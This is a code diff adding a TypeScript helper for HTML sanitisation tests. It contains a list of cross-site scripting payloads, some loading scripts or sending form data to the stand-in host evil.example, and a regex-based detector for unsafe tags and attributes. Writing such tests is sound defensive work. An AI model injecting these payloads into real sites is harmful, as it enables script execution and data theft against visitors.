@@ -1,0 +1,69 @@
+/** What somebody might put into a field so that it runs, loads or restyles something for the page's visitors. */
+export const hostileTexts = [
+  '<script>alert(1)</script>',
+  '"><script src=https://evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
+  '<p style="background:url(https://evil.example/p.png)">x</p>',
+  '<style>body{display:none}</style>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,x"></object><embed src="x">',
+  '<form action="https://evil.example"><input name=q><button>x</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<p><!--><script>alert(1)</script>--></p>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<<script>script>alert(1)<</script>/script>',
+  '</div></section><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  'javascript:alert(1)',
+  ' \u0001javascript:alert(1)',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  '//evil.example/x.png',
+  'https://evil.example/track.png',
+  '/images/x.webp" onerror="alert(1)',
+  '/images/../admin',
+  'url(javascript:alert(1))',
+  '\u2028alert(1)',
+]
+
+const allowedElements = new Set(
+  (
+    'a article aside b blockquote br button details div em fieldset figcaption figure form h1 h2 h3 i img input label ' +
+    'legend li link ol p path picture polyline line rect s section source span strong summary svg textarea u ul'
+  ).split(' '),
+)
+
+/** What in a piece of HTML could run, load from elsewhere or change the look; empty when nothing can. */
+export function nothingRuns(html: string): string {
+  const found: string[] = []
+  // A browser's own reading is needed to be sure; this reads tags as one does outside of raw text, which isn't allowed.
+  for (const [tag, name = '', attributes = ''] of html.matchAll(
+    /<\/?([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi,
+  )) {
+    if (!allowedElements.has(name.toLowerCase())) found.push(tag)
+    // React asks for a large picture early.
+    if (name === 'link' && !/rel="preload" as="image"/.test(tag)) found.push(tag)
+    for (const [attribute, key = '', value = ''] of attributes.matchAll(
+      /([^\s=/"']+)(?:\s*=\s*"([^"]*)")?/g,
+    )) {
+      if (/^on/i.test(key) || key === 'srcdoc') found.push(attribute)
+      if (
+        /^(?:href|src|action|formaction|xlink:href)$/i.test(key) &&
+        !/^(?:#|\/(?![/\\])|https?:|tel:|mailto:|sms:|$)/i.test(value)
+      )
+        found.push(attribute)
+      if (/^(?:src|srcset|action|formaction)$/i.test(key) && /evil/.test(value)) found.push(attribute)
+      if (key === 'style' && /url|position|expression/i.test(value.replace('object-position', '')))
+        found.push(attribute)
+    }
+  }
+  return found.join('\n')
+}
